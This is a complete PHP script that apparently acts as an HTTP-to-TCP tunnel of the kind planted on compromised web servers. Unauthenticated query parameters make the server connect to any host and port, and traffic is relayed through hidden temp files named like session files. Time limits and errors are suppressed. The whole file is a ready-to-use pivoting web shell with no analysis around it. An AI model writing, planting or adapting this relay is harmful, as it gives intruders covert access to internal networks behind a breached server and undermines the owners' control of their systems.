<?php
// Socket relay without the session: an "open" request connects to the host it is given and stays,
// polling two queue files in the temporary folder; "put" requests append their raw body to the
// inbound queue, "get" requests drain the outbound one.
@set_time_limit(0);
@ignore_user_abort(true);
$ch = preg_replace('/[^a-z0-9]/i', '', $_GET['ch']);
$qin = sys_get_temp_dir() . "/.sess_{$ch}_i";
$qout = sys_get_temp_dir() . "/.sess_{$ch}_o";
$op = $_GET['op'];
if ($op === 'open') {
    $sock = @fsockopen($_GET['h'], (int) $_GET['p'], $no, $msg, 5);
    if (!$sock) {
        exit('fail ' . $msg);
    }
    stream_set_blocking($sock, false);
    touch($qin);
    touch($qout);
    echo 'open';
    flush();
    while (is_file($qin) && !feof($sock)) {
        $pending = file_get_contents($qin);
        if ($pending !== '') {
            file_put_contents($qin, '');
            fwrite($sock, $pending);
        }
        $back = fread($sock, 16384);
        if ($back !== '' && $back !== false) {
            file_put_contents($qout, $back, FILE_APPEND | LOCK_EX);
        }
        usleep(50000);
    }
    fclose($sock);
    @unlink($qin);
    @unlink($qout);
} elseif ($op === 'put') {
    file_put_contents($qin, file_get_contents('php://input'), FILE_APPEND | LOCK_EX);
} elseif ($op === 'get') {
    echo file_get_contents($qout);
    file_put_contents($qout, '');
} else {
    @unlink($qin);
}
